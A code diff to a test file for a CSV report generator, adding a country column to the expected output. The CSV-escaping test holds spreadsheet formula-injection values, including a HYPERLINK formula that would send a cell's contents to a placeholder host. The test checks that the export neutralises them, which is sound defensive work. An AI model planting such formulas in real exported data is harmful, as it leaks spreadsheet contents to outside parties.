@@ -75,12 +75,15 @@ describe("report", () => {
     expect(renderReportText(empty)).toContain("Distinct users: 0");
   });
 
-  it("writes CSV with city and state columns, quoting where needed", () => {
+  it("writes CSV with city, state and country columns, quoting where needed", () => {
     const r = reportOf("city", [
       ["Winston-Salem, NC", 2],
       ['Odd, "Name", ??', 1],
+      ["Paris (FR)", 1],
     ]);
-    expect(reportToCsv(r)).toBe('city,state,users\nWinston-Salem,NC,2\n"Odd, ""Name""",,1\n');
+    expect(reportToCsv(r)).toBe(
+      'city,state,country,users\nWinston-Salem,NC,US,2\n"Odd, ""Name""",,,1\nParis,,FR,1\n',
+    );
     const states = reportOf("state", [
       ["TX", 2],
       ["??", 1],
@@ -95,7 +98,7 @@ describe("report", () => {
       ["-Minus, ??", 1],
     ]);
     expect(reportToCsv(r)).toBe(
-      'city,state,users\n"\'=HYPERLINK(""http://x.example/?""&A1)",,1\n\'@SUM(1+1),TX,1\n\'-Minus,,1\n',
+      'city,state,country,users\n"\'=HYPERLINK(""http://x.example/?""&A1)",,,1\n\'@SUM(1+1),TX,US,1\n\'-Minus,,,1\n',
     );
   });
 
